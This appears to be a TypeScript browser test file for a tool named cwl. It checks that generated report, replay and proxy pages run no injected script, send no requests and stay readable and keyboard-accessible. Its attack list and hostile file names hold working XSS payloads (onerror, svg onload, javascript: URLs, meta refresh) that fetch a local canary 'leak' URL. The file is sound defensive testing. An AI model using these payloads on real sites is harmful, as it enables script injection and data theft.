@@ -1,0 +1,218 @@
+/**
+ * The pages of cwl in a real Chromium: a session and requests that hold HTML and JavaScript wherever text can stand run no
+ * script and send no request, and every page can be read on a narrow screen and with the keyboard.
+ */
+
+import { mkdir, writeFile } from "node:fs/promises";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+import { pathToFileURL } from "node:url";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { startTrial } from "../../extensions/cwl/test-support/trial.ts";
+import { startRecorder } from "../proxy/test-support/upstream.ts";
+import { type Browser, chromium, type Page, startBrowser } from "./test-support/browser.ts";
+import { newFolder, startProgram } from "./test-support/proxy-process.ts";
+
+if (!chromium) console.warn("no chromium on the path: the pages are not opened in a real browser");
+
+let browser: Browser;
+/** A server that no page may reach, and how often it was reached. */
+let canary: { readonly url: string; readonly hits: () => number; readonly close: () => void };
+beforeAll(async () => {
+	if (!chromium) return;
+	browser = await startBrowser();
+	let hits = 0;
+	const server = createServer((_request, response) => {
+		hits += 1;
+		response.end();
+	});
+	await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+	const { port } = server.address() as AddressInfo;
+	canary = { url: `http://127.0.0.1:${port}`, hits: () => hits, close: () => server.close() };
+});
+afterAll(async () => {
+	await browser?.close();
+	canary?.close();
+});
+
+/** Ways out of text, an attribute, a script, JSON, a style and a title. */
+const attacks = () => {
+	const run = `window.hacked=1;fetch('${canary.url}/leak')`;
+	return [
+		`<img src="${canary.url}/img" onerror="${run}">`,
+		`</script><script>${run}</script>`,
+		`"><svg onload="${run}"><a href="javascript:${run}">x</a>`,
+		`' onmouseover='${run}' x='`,
+		`</style></title></textarea><iframe src="javascript:${run}"></iframe>`,
+		`&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;`,
+		`]]><!--<script>${run}//--><link rel=stylesheet href="${canary.url}/css">`,
+		`<meta http-equiv=refresh content="0;url=${canary.url}/refresh"><base href="${canary.url}">`,
+	];
+};
+const attack = (index: number) => attacks()[index % attacks().length] ?? "";
+
+/** A session in pi's format in which every text that a person, a model or a tool can choose attacks. */
+function hostileSession(rounds: number): string {
+	const usage = {
+		...{ input: 900, output: 5, cacheRead: 0, cacheWrite: 0, totalTokens: 905 },
+		cost: { input: 0, output: 0, cacheRead: 0, cacheWrite: 0, total: 0 },
+	};
+	const messages: object[] = [];
+	const said = (content: object[]) =>
+		messages.push({
+			...{ role: "assistant", content, api: "anthropic-messages", provider: attack(2), model: attack(1) },
+			...{ usage, stopReason: "stop" },
+		});
+	const answered = (toolCallId: string, toolName: string, text: string) =>
+		messages.push({
+			role: "toolResult",
+			toolCallId,
+			toolName,
+			content: [{ type: "text", text }],
+			isError: false,
+		});
+	const delimit = (id: string, args: object) => {
+		said([{ type: "toolCall", id, name: "delimiter", arguments: args }]);
+		answered(id, "delimiter", attack(1));
+	};
+	for (let n = 0; n < rounds; n += 1) {
+		const [name, path] = [`${attack(n)}-${n}`, `src/${attack(n + 1)}${n}.ts`];
+		messages.push({ role: "user", content: [{ type: "text", text: attack(n) }] });
+		delimit(`start${n}`, { action: "start", type: "expl", name, dependencies: [] });
+		said([
+			{ type: "thinking", thinking: attack(n + 2) },
+			{ type: "toolCall", id: `read${n}`, name: "read", arguments: { path } },
+			{ type: "toolCall", id: `odd${n}`, name: attack(n + 3), arguments: { [attack(n)]: attack(n + 4) } },
+		]);
+		answered(`read${n}`, "read", `${attack(n)}\n`.repeat(40));
+		answered(`odd${n}`, attack(n + 3), attack(n + 5));
+		delimit(`end${n}`, { action: "end", description: attack(n + 6) });
+		said([{ type: "text", text: attack(n + 7) }]);
+	}
+	const entries = messages.map((message, index) => ({
+		...{ type: "message", id: `e${index}`, parentId: index > 0 ? `e${index - 1}` : null },
+		message: { ...message, timestamp: index + 1 },
+	}));
+	const head = { type: "session", version: 3, id: attack(0), cwd: `/tmp/${attack(1)}` };
+	return [head, ...entries].map((entry) => `${JSON.stringify(entry)}\n`).join("");
+}
+
+/** Moves over the page and through its controls, as a reader does, so that handlers would run. */
+async function readThrough(page: Page): Promise<void> {
+	for (let y = 50; y < 900; y += 100) await page.hover(300, y);
+	for (let n = 0; n < 5; n += 1) await page.press("Tab");
+	await page.evaluate("new Promise((resolve) => setTimeout(resolve, 300))");
+}
+
+async function expectHarmless(page: Page, own: string): Promise<void> {
+	await readThrough(page);
+	const facts = `({
+		hacked: "hacked" in window,
+		title: document.title,
+		foreign: document.querySelectorAll("img,iframe,object,embed,svg,link:not([rel=icon]),base,form,meta[http-equiv=refresh]").length,
+		links: [...document.querySelectorAll("[href],[src]")].filter((each) => !["/health.json", "data:,"].includes(each.getAttribute("href"))).length,
+		handlers: [...document.querySelectorAll("*")].filter((each) => [...each.attributes].some(({ name }) => name.startsWith("on"))).length,
+		address: location.href.split("#")[0],
+	})`;
+	expect(await page.evaluate(facts)).toEqual({
+		...{ hacked: false, title: expect.stringMatching(/^[\w ]+$/), foreign: 0, links: 0, handlers: 0 },
+		address: own,
+	});
+	expect(page.requests.filter((url) => url !== own)).toEqual([]);
+	expect(page.incidents).toEqual([]);
+	expect(canary.hits()).toBe(0);
+}
+
+/** The addresses of a report and of a replay's page of two hostile sessions, made by the program itself. */
+async function makePages(): Promise<{ readonly report: string; readonly replay: string }> {
+	const trial = await startTrial({ model: () => ({ text: "ok" }) });
+	// A file name may hold anything but a slash.
+	const folder = join(trial.work, '<img src=x onerror="window.hacked=1">');
+	await mkdir(folder);
+	const file = join(folder, `"><script>window.hacked=1<&script>'.jsonl`);
+	await writeFile(file, hostileSession(12));
+	await writeFile(join(folder, "javascript:window.hacked=1.jsonl"), hostileSession(8));
+	const [report, replay] = [join(trial.directory, "report.html"), join(trial.directory, "replay.html")];
+	const made = await trial.run(["report", file, "--budget", "8k", "--out", report]);
+	expect(made).toMatchObject({ code: 0, stderr: "" });
+	const flags = ["--budget", "8k", "--policy", "none,paper,cwl,compaction", "--html", replay];
+	expect(await trial.run(["replay", folder, ...flags])).toMatchObject({ code: 0 });
+	return { report: pathToFileURL(report).href, replay: pathToFileURL(replay).href };
+}
+
+describe.skipIf(!chromium)("in a real browser", () => {
+	test("the pages of a hostile session run no script of its and ask for nothing, and can be read", async () => {
+		const pages = await makePages();
+		for (const url of [pages.report, pages.replay]) {
+			for (const options of [{ width: 1280 }, { width: 420, isDark: true }]) {
+				const page = await browser.open(url, options);
+				await expectHarmless(page, url);
+				await expectReadable(page, options.width);
+			}
+		}
+		await expectSpoken(await browser.open(pages.report));
+	});
+
+	test("the proxy's page shows its figures and nothing of what hostile requests hold", async () => {
+		const { url: provider } = await startRecorder();
+		const { url } = await startProgram(provider, newFolder(), "--budget", "2500");
+		for (const body of [`{"${attack(0)}`, JSON.stringify({ previous_response_id: attack(1) })]) {
+			await fetch(`${url}/test/v1/messages`, { method: "POST", body });
+		}
+		for (let n = 1; n <= 20; n += 1)
+			await fetch(`${url}/test/v1/messages`, { method: "POST", body: request(n) });
+		await fetch(`${url}/test/${encodeURIComponent(attack(1))}`, { method: "POST", body: attack(0) });
+		const page = await browser.open(`${url}/health`, { width: 420 });
+		await expectHarmless(page, `${url}/health`);
+		await expectReadable(page, 420);
+		const text = String(await page.evaluate("document.body.innerText"));
+		expect(text).toMatch(/^cwl proxy\n+\d+ requests: eviction would have sent [\d,]+ fewer input tokens/);
+		expect(text).not.toMatch(/<|script|hacked/);
+	});
+});
+
+/** A request of an agent whose tools, paths and texts attack. */
+function request(exchanges: number): string {
+	const messages: object[] = [{ role: "user", content: attack(0) }];
+	for (let n = 1; n <= exchanges; n += 1) {
+		const call = {
+			type: "tool_use",
+			id: `${attack(n)}${n}`,
+			name: attack(n),
+			input: { path: attack(n + 1) },
+		};
+		const result = { type: "tool_result", tool_use_id: call.id, content: attack(n + 2).repeat(10) };
+		messages.push({ role: "assistant", content: [call] }, { role: "user", content: [result] });
+	}
+	return JSON.stringify({ model: attack(1), max_tokens: 9, system: attack(2), messages });
+}
+
+/** No text is smaller than 11 px, and nothing but a table in its own frame is wider than the window. */
+async function expectReadable(page: Page, width: number): Promise<void> {
+	const facts = `({
+		small: [...document.querySelectorAll("body *")].filter((each) => each.innerText && parseFloat(getComputedStyle(each).fontSize) < 11).map((each) => each.outerHTML.slice(0, 80)),
+		ticks: typeof Chart === "undefined" ? [] : Object.values(Chart.instances).flatMap(({ scales }) => Object.values(scales)).map(({ options }) => options.ticks.font.size).filter((size) => size < 11),
+		width: document.documentElement.scrollWidth,
+		clipped: ${width} < 1280 ? [] : [...document.querySelectorAll(".scroll")].filter((each) => each.scrollWidth > each.clientWidth).map((each) => each.innerText.slice(0, 80)),
+	})`;
+	expect(await page.evaluate(facts)).toEqual({ small: [], ticks: [], width, clipped: [] });
+}
+
+/** The keyboard reaches a chart, and its values are shown and read out; so does a pointer. */
+async function expectSpoken(page: Page): Promise<void> {
+	const spoken = () => page.evaluate(`document.querySelector(".spoken").textContent`);
+	await page.evaluate(`document.querySelector("canvas").focus({ focusVisible: true })`);
+	await page.press("ArrowRight");
+	expect(await spoken()).toMatch(/^request \d+, .*: [\d.]+k?/);
+	await page.press("PageDown");
+	const box = Object(
+		await page.evaluate(
+			`(({ x, y, width, height }) => ({ x, y, width, height }))(document.querySelector("canvas").getBoundingClientRect())`,
+		),
+	);
+	await page.hover(box.x + box.width / 2, box.y + box.height / 2);
+	const shown =
+		"(({ tooltip }) => [tooltip.opacity > 0, ...tooltip.title])(Chart.getChart(document.querySelector('canvas')))";
+	expect(await page.evaluate(shown)).toEqual([true, expect.stringMatching(/^request \d+$/)]);
+}
